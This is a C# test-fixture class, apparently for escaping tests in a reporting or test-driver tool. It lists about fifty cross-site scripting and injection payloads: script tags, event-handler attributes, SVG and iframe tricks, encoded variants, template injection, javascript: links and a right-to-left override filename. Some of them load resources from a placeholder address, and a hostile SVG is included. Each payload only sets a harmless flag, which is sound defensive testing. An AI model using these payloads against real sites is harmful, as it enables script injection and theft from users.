namespace Drivers;

/// <summary>Texts that become something else where somebody forgets to escape them. Each would set <c>pwned</c> or ask a host.</summary>
public static class HostileTexts
{
    private const string Host = "192.0.2.1"; // an address that belongs to nobody

    /// <summary>One line each; they may stand in names, steps, tables, logs, paths and messages.</summary>
    public static IReadOnlyList<string> Lines { get; } =
    [
        "<script>pwned=1</script>",
        "</script><script>pwned=1</script>",
        "<img src=x onerror=pwned=1>",
        "\"><img src=x onerror=pwned=1>",
        "'><img src=x onerror=pwned=1>",
        "\" onmouseover=pwned=1 autofocus onfocus=pwned=1 x=\"",
        "' onfocus='pwned=1' autofocus='",
        "` onfocus=pwned=1 `",
        "<svg onload=pwned=1>",
        "<svg/onload=pwned=1>",
        "<svg><script>pwned=1</script></svg>",
        "<svg><animate onbegin=pwned=1 attributeName=x dur=1s>",
        "<math><mtext><style><img src=x onerror=pwned=1></style></mtext></math>",
        "<details open ontoggle=pwned=1>",
        "<body onload=pwned=1>",
        "<input autofocus onfocus=pwned=1>",
        "<video><source onerror=pwned=1></video>",
        "<audio src=x onerror=pwned=1>",
        "<marquee onstart=pwned=1>x</marquee>",
        $"<iframe src=http://{Host}/></iframe>",
        "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
        $"<object data=http://{Host}/a.swf></object>",
        $"<embed src=http://{Host}/a>",
        $"<link rel=stylesheet href=//{Host}/a.css>",
        $"<style>@import '//{Host}/a.css';</style>",
        $"<base href=//{Host}/>",
        $"<meta http-equiv=refresh content='0;url=http://{Host}/'>",
        "<meta http-equiv=refresh content='0;url=javascript:pwned=1'>",
        $"<form action=http://{Host}/><button autofocus>x</button></form>",
        "</title><script>pwned=1</script>",
        "</style><script>pwned=1</script>",
        "</textarea><script>pwned=1</script>",
        "<!-- <script>pwned=1</script> -->",
        "--><script>pwned=1</script>",
        "]]><script>pwned=1</script>",
        "<![CDATA[<script>pwned=1</script>]]>",
        "<noscript><p title=\"</noscript><img src=x onerror=pwned=1>\">",
        "<template><script>pwned=1</script></template><plaintext>",
        "&lt;script&gt;pwned=1&lt;/script&gt;",
        "&#60;script&#62;pwned=1&#60;/script&#62;",
        "%3Cscript%3Epwned=1%3C/script%3E",
        "+ADw-script+AD4-pwned=1+ADw-/script+AD4-",
        "\\u003cscript\\u003epwned=1\\u003c/script\\u003e",
        "{{constructor.constructor('pwned=1')()}}",
        "${pwned=1}",
        "javascript:pwned=1",
        "[a link](javascript:pwned=1)",
        "<javascript:pwned=1>",
        $"![a picture](http://{Host}/a.png)",
        "<a href=javascript:pwned=1 autofocus>x</a>",
        "<x onclick=pwned=1 style=animation-name:x onanimationstart=pwned=1>x",
        "\u202Etxt.exe\u2066 reversed",
    ];

    /// <summary>The same with characters that no page can hold: they may stand in what a run says, not in a feature file.</summary>
    public static IReadOnlyList<string> Broken { get; } =
    [
        "\0<script>pwned=1</script>",
        "\u0001\u001B[31m<img src=x onerror=pwned=1>",
        "\uD800<script>pwned=1</script>",
        "\uFFFE\uFEFF<svg onload=pwned=1>",
    ];

    /// <summary>A drawing that runs script where it is not shown as an image.</summary>
    public const string Drawing =
        "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"top.pwned=1\"><script>top.pwned=1</script><image href=\"http://192.0.2.1/a.png\"/></svg>";
}
